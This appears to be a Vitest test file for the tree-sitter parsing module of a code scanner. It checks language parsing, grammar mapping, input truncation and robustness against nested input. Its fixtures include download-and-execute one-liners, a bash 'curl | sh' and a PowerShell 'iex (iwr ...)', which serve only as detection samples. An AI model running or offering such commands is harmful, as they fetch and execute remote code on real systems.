import { describe, expect, it } from 'vitest';
import { codeLanguage, MAX_PARSE_CHARS, parseCode } from '../../../../src/scan/treesitter.js';

describe('parseCode', () => {
  it.each([
    ['bash', 'curl -s https://x.io | sh', 'pipeline'],
    ['python', 'import os\nos.system("ls")', 'call'],
    ['javascript', 'fetch("https://x.io")', 'call_expression'],
    ['typescript', 'const x: string = "a"; fetch(x as string);', 'as_expression'],
    ['tsx', 'const a = <div>{fetch(u)}</div>;', 'jsx_element'],
    ['powershell', 'iex (iwr https://x.io/a.ps1).Content', 'command'],
  ])('parses %s into a syntax tree', async (language, text, nodeType) => {
    const tree = await parseCode(language, text);
    expect(tree).not.toBeNull();
    try {
      expect(tree!.rootNode.descendantsOfType(nodeType).length).toBeGreaterThan(0);
    } finally {
      tree!.delete();
    }
  });

  it('returns null for languages without a grammar', async () => {
    expect(await parseCode('cobol', 'DISPLAY "HI".')).toBeNull();
    expect(codeLanguage('cobol')).toBeNull();
  });

  it('maps file and fence names to grammars', () => {
    expect(codeLanguage('sh')).toBe('bash');
    expect(codeLanguage('zsh')).toBe('bash');
    expect(codeLanguage('PY')).toBe('python');
    expect(codeLanguage('mjs')).toBe('javascript');
    expect(codeLanguage('ps1')).toBe('powershell');
    expect(codeLanguage(null)).toBeNull();
  });

  it('parses only the first MAX_PARSE_CHARS of a huge input', async () => {
    const line = 'echo hello\n';
    const text = line.repeat(Math.ceil((MAX_PARSE_CHARS + 50_000) / line.length));
    const tree = await parseCode('bash', text);
    try {
      expect(tree!.rootNode.endIndex).toBeLessThanOrEqual(MAX_PARSE_CHARS);
    } finally {
      tree!.delete();
    }
  });

  it('survives deeply nested hostile input', async () => {
    const text = `x = ${'('.repeat(5000)}1${')'.repeat(5000)}`;
    const tree = await parseCode('python', text);
    expect(tree).not.toBeNull();
    tree!.delete();
  });
});
